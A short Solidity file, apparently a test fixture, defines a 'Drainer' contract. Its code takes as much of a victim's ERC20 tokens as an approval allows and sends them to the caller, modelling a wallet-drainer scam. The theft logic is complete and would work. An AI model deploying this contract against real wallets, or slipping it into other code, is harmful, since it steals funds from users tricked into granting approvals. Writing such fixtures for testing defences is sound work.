// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Test only: what a wallet drainer does with an approval it tricked someone into. It takes as much
/// of `victim`'s `token` as the approval allows and sends it to the caller.
contract Drainer {
    function drain(IERC20 token, address victim) external {
        uint256 amount = token.allowance(victim, address(this));
        uint256 balance = token.balanceOf(victim);
        if (balance < amount) amount = balance;
        require(amount > 0, "nothing to drain");
        require(token.transferFrom(victim, msg.sender, amount), "transfer failed");
    }
}
